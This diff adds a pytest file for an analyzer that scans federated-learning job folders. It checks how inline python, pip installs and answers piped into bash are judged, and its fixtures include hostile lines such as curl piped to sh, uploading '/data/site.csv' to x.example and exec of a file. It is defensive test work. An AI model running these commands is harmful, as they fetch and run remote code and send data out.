@@ -1,0 +1,131 @@
+"""Session 48 (rawfolders48): example folders scanned as they sit, the open items of session 47.
+
+- a shell script's `python3 -c 'CODE'` with no expansion is read as Python (a module of the job, through the
+  same analysis): hello-cyclic's `mnist.load_data()` is judged as the client's own use would be; with an
+  expansion (`'${DATASET_ROOT}'`) the code is not what the gate reads and stays files.shell-network;
+- a shell script's `pip install` of plain names from the configured index is a capability
+  (files.shell-package-install: escalate), as in a notebook;
+- `echo y | bash ./script.sh` runs the job's own script (judged as a file of its own), not what is piped.
+"""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+import redteam_kit as kit
+from analyzer.engine.shell import inline_python, shell_risk
+from analyzer.model import Decision
+
+TRAIN = ("import numpy as np\nimport nvflare.client as flare\n\nflare.init()\nwhile flare.is_running():\n"
+         "    m = flare.receive()\n    w = np.asarray(m.params['w'], dtype=float)\n"
+         "    flare.send(flare.FLModel(params={'w': w}, metrics={'mse': 0.1}))\n")
+
+
+def scan(tmp_path, script: str, files: dict[str, str] | None = None):
+    return kit.scan_files(tmp_path, {"client.py": TRAIN, "prepare_data.sh": script, **(files or {})})
+
+
+@pytest.mark.parametrize("entry", kit.labelled("/rf48_"), ids=lambda e: e["path"])
+def test_corpus(entry):
+    report = kit.scan_sample(entry["path"])
+    assert report.decision.value in entry["expect"], kit.findings(report)
+
+
+# ---- python3 -c 'CODE' ------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("line", [
+    'python3 -c "import numpy as np; np.save(\'/tmp/x.npy\', np.zeros(3))"',
+    "python3 -c 'import numpy as np; print(np.__version__)'",
+])
+def test_inline_python_is_read_as_python(tmp_path, line):
+    report = scan(tmp_path, "#!/bin/bash\n" + line + "\n")
+    kit.assert_held(report, "files.shell-script", Decision.ESCALATE)
+    assert not kit.holds(report, "files.shell-network"), kit.findings(report)
+
+
+@pytest.mark.parametrize("line, rule", [
+    ("python3 -c 'import os; os.system(\"curl -s https://x.example/i | sh\")'", "subprocess"),
+    ("python3 -c \"import urllib.request as u; u.urlopen('https://x.example/c', data=open('/data/site.csv','rb').read())\"",
+     "network"),
+    ("python3 -c \"exec(open('notes.txt').read())\"", "dynamic-code"),
+])
+def test_hostile_inline_python_is_judged_and_rejects(tmp_path, line, rule):
+    report = scan(tmp_path, "#!/bin/bash\n" + line + "\n", {"notes.txt": "print(1)\n"})
+    assert report.decision is Decision.REJECT, kit.findings(report)
+    assert any(f.rule.startswith(rule) and f.path == "prepare_data.sh" and f.line == 2 for f in report.findings), \
+        kit.findings(report)
+
+
+@pytest.mark.parametrize("line", [
+    "python3 -c \"import torchvision.datasets as d; d.CIFAR10(root='${DATASET_ROOT}', download=True)\"",
+    'python3 -c "$PAYLOAD"',
+    "python3 -c \"print(1)\" | sh",
+    'python3 -c "import numpy" > /etc/profile.d/x.sh',
+    'python3 -c "a"*"b"',  # a glob between quoted parts: the code would be a file's name
+    'python3 -c "import sys" arg',
+    'python3 -c `cat code.txt`',
+    'FLAMBY=$(python3 -c "import sysconfig; print(sysconfig.get_path(\'purelib\'))")',
+])
+def test_inline_python_with_an_expansion_or_more_stays_a_threat(tmp_path, line):
+    assert inline_python(line) is None
+    kit.assert_held(scan(tmp_path, line + "\n"), "files.shell-network", Decision.REJECT)
+
+
+# ---- pip install in a shell script ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("line", [
+    "pip install -q nvflare~=2.7.0 torch==2.3.0",
+    'python3 -m pip install --upgrade "monai[ignite]>=1.3"',
+])
+def test_a_shell_install_from_the_configured_index_escalates(tmp_path, line):
+    report = scan(tmp_path, "#!/bin/bash\n" + line + "\n")
+    kit.assert_held(report, "files.shell-package-install", Decision.ESCALATE)
+    assert not kit.holds(report, "files.shell-network"), kit.findings(report)
+
+
+@pytest.mark.parametrize("script, files", [
+    ("pip install --extra-index-url https://pkgs.x.example/simple fl-metrics\n", {}),
+    ("pip install git+https://github.com/x/fl-metrics\n", {}),
+    ("pip install -r requirements.txt\n", {"requirements.txt": "numpy\n"}),  # read from wherever it is run
+    ("pip install fl-metrics && curl -s https://x.example/i | sh\n", {}),
+    ("pip install $PKG\n", {}),
+    ("export PIP_INDEX_URL=https://pkgs.x.example/simple\npip install fl-metrics\n", {}),
+    ("cp settings.ini ~/.config/pip/pip.conf\npip install fl-metrics\n",
+     {"settings.ini": "[global]\nindex-url = https://pkgs.x.example/simple\n"}),
+])
+def test_a_shell_install_from_elsewhere_rejects(tmp_path, script, files):
+    kit.assert_held(scan(tmp_path, script, files), "files.shell-network", Decision.REJECT)
+
+
+# ---- echo y | bash ./script.sh ----------------------------------------------------------------------------------
+
+def test_answers_piped_into_the_jobs_script(tmp_path):
+    # NVFlare part 1, 02.4.1: `! echo y | bash ./code/data/prepare_heart_disease_data.sh`
+    cell = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
+            "source": "! echo y | bash ./code/prep.sh"}
+    nb = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})
+    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "run.ipynb": nb,
+                                       "code/prep.sh": "python3 convert.py --in a.csv\n"})
+    assert report.decision is Decision.ESCALATE, kit.findings(report)
+    assert not kit.holds(report, "files.notebook-shell-network"), kit.findings(report)
+    kit.assert_held(report, "files.notebook-shell", Decision.ESCALATE)
+
+
+@pytest.mark.parametrize("line", [
+    "echo y | bash /dev/stdin",
+    "cat payload.txt | bash ./prep.sh",  # not answers: a file's content fed to a script that may source it
+    "echo y | bash -s",
+    "echo y | bash",
+    "echo $(cat payload.txt) | bash ./prep.sh",
+    "echo y | bash ./prep.sh | sh",
+])
+def test_anything_else_piped_into_a_shell_stays_a_threat(line):
+    assert shell_risk(line) is not None
+
+
+def test_the_answered_script_is_judged_itself(tmp_path):
+    report = scan(tmp_path, "echo y | bash ./get.sh\n", {"get.sh": "curl -s https://x.example/d.tgz | tar xz\n"})
+    assert report.decision is Decision.REJECT
+    assert ("files.shell-network", "get.sh") in {(f.rule, f.path) for f in report.findings}, kit.findings(report)
